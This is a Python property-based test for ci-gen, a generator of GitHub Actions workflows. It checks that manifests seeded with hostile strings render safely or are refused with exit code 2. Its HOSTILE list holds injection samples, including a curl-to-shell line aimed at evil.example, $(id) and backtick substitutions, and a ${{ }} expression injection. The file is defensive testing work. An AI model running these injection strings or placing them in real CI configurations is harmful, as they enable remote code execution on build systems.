"""Manifests drawn from ci-gen's own JSON Schema, with hostile strings and extreme
numbers: every one ends in exit 0 or 2, never a traceback; whatever renders passes the
four judges, and no manifest string reaches a ``run:`` script unquoted or a ``${{ }}``."""

from __future__ import annotations

import functools
import json
import re
import shlex
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import tomlkit
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from ci_gen import cli
from ci_gen.manifest import loads, manifest_schema
from ci_gen.output import produce
from ci_gen.plan import Origin, plan

from .judges import JUDGES

SCHEMA = json.loads(manifest_schema())
HOSTILE = [
    "\n",
    "stable\n",
    "${{ github.event.pull_request.title }}",
    "'; curl https://evil.example | sh; '",
    "$(id)",
    "`id`",
    '"',
    "\\",
    "a b",
    "*",
    "# x",
    "key: value",
    "- item",
    "\u2028",
    "\x00",
    "\x1b[31m",
    "naïve",
    "x" * 150,
    "on",
    "null",
    "{a}",
    "&anchor",
    "!tag",
    "%",
    "--config=a",
]
NAMES = st.from_regex(r"[a-z][a-z0-9-]{0,10}", fullmatch=True)
TEXT = st.one_of(NAMES, st.sampled_from(HOSTILE), st.text(max_size=12))
NUMBERS = st.one_of(
    st.floats(0, 100),
    st.sampled_from([0, -1, -138, 1e308, 5e-324, 1e30, 2**63 - 1, -(2**63)]),
    st.floats(allow_nan=False, allow_infinity=False),
)
INTEGERS = st.one_of(st.integers(0, 64), st.sampled_from([-1, 0, 10**18, 2**63 - 1]))
SCALARS = {"string": TEXT, "number": NUMBERS, "integer": INTEGERS, "boolean": st.booleans()}


def value_of(node: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values for a schema node: right kinds mostly, with hostile content."""
    if "enum" in node:
        return st.one_of(st.sampled_from(node["enum"]), TEXT)
    kind = node.get("type")
    if kind in SCALARS:
        return SCALARS[kind]
    if kind == "array":
        return st.lists(value_of(node["items"]), max_size=3)
    if "properties" in node:
        optional = {k: value_of(v) for k, v in node["properties"].items()}
        required = {k: optional.pop(k) for k in node.get("required", [])}
        return st.fixed_dictionaries(required, optional=optional)
    entries = node.get("additionalProperties", {})
    return st.dictionaries(st.one_of(NAMES, TEXT), value_of(entries), max_size=2)


CRATE = {"core": {"path": "core"}}
SECTIONS = {key: value_of(node) for key, node in SCHEMA["properties"].items() if key != "crates"}


@st.composite
def drawn_from_the_schema(draw: st.DrawFn) -> dict[str, Any]:
    """One valid crate, plus sections of every kind the schema allows."""
    keys = draw(st.lists(st.sampled_from(sorted(SECTIONS)), unique=True, max_size=3))
    document: dict[str, Any] = {key: draw(SECTIONS[key]) for key in keys}
    crates = draw(value_of(SCHEMA["properties"]["crates"]))
    document["crates"] = {**CRATE, **crates}
    return document


@st.composite
def valid_with_hostile_free_text(draw: st.DrawFn) -> dict[str, Any]:
    """A manifest that renders but for the free-form strings, which are hostile: the
    keys whose values reach commands and comments as they are."""
    hostile = st.sampled_from(HOSTILE)
    document: dict[str, Any] = {"crates": {"core": {"path": draw(st.one_of(NAMES, hostile))}}}
    document["gate"] = {"clippy-args": draw(st.lists(st.one_of(NAMES, hostile), max_size=3))}
    if draw(st.booleans()):
        sha = "11bd71901bbe5b1630ceea73d27597364c9af683"
        document["pins"] = {"actions/checkout": {"sha": sha, "tag": draw(hostile)}}
    if draw(st.booleans()):
        document["feature-sets"] = {draw(NAMES): {"features": [draw(hostile)]}}
    return document


def as_toml(document: dict[str, Any]) -> str | None:
    try:
        return tomlkit.dumps(document)
    except (TypeError, ValueError, OverflowError):  # a value TOML cannot hold
        return None


def strings(value: object) -> Iterator[str]:
    """Every string of a drawn document, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, entry in value.items():
            yield str(key)
            yield from strings(entry)
    elif isinstance(value, list):
        for entry in value:
            yield from strings(entry)


ORIGIN = Origin("ci.toml", "0.1.0", "ci-gen render", "ci-gen check")
SAFE_WORD = re.compile(r"[A-Za-z0-9_./:=+,@-]*")
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
SAFE_EXPRESSION = re.compile(r"[A-Za-z0-9_./\-'&|!=()*, ]+")


def scripts(root: Path) -> Iterator[str]:
    """The ``run:`` scripts of every rendered workflow and action."""
    for path in root.glob(".github/**/*.yml"):
        data = yaml.safe_load(path.read_text())
        jobs = data.get("jobs", {}).values() if isinstance(data, dict) else ()
        steps = [s for job in jobs for s in job.get("steps", [])]
        steps += data.get("runs", {}).get("steps", []) if isinstance(data, dict) else []
        yield from (step["run"] for step in steps if "run" in step)


@functools.cache
def template_text() -> str:
    """What the templates write whatever the manifest: a string found here is theirs."""
    files = produce(plan(loads('[crates.core]\npath = "core"\n', "ci.toml"), ORIGIN)).files
    return "\n".join(files.values())


def assert_nothing_leaks(root: Path, document: dict[str, Any]) -> None:
    texts = [p.read_text() for p in root.glob(".github/**/*.y*ml")]
    for inner in (e for text in texts for e in EXPRESSION.findall(text)):
        assert SAFE_EXPRESSION.fullmatch(inner.strip()), inner
    risky = {
        s for s in strings(document) if not SAFE_WORD.fullmatch(s) and s not in template_text()
    }
    for script in scripts(root):
        for s in risky:
            left = script.replace(shlex.quote(s), "")
            assert s not in left, (s, script)
    for inner in (e for text in texts for e in EXPRESSION.findall(text)):
        assert not any(s in inner for s in risky if len(s) > 1), inner


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
@given(st.one_of(drawn_from_the_schema(), valid_with_hostile_free_text()))
def test_any_manifest_renders_cleanly_or_is_refused_with_exit_2(document: dict[str, Any]) -> None:
    text = as_toml(document)
    if text is None:
        event("not TOML")
        return
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        (root / "ci.toml").write_text(text, encoding="utf-8")
        result = CliRunner().invoke(
            cli.app, ["render", "--manifest", str(root / "ci.toml")], prog_name="ci-gen"
        )
        said = result.stdout + result.stderr
        assert result.exit_code in (0, 2), said
        assert "Traceback" not in said and "unexpected error" not in said, said
        event(f"exit {result.exit_code}")
        if result.exit_code != 0:
            assert not (root / ".github").exists()  # a refused manifest writes nothing
            return
        for judge, check in JUDGES.items():
            assert check(root) == [], (judge, text)
        assert_nothing_leaks(root, document)
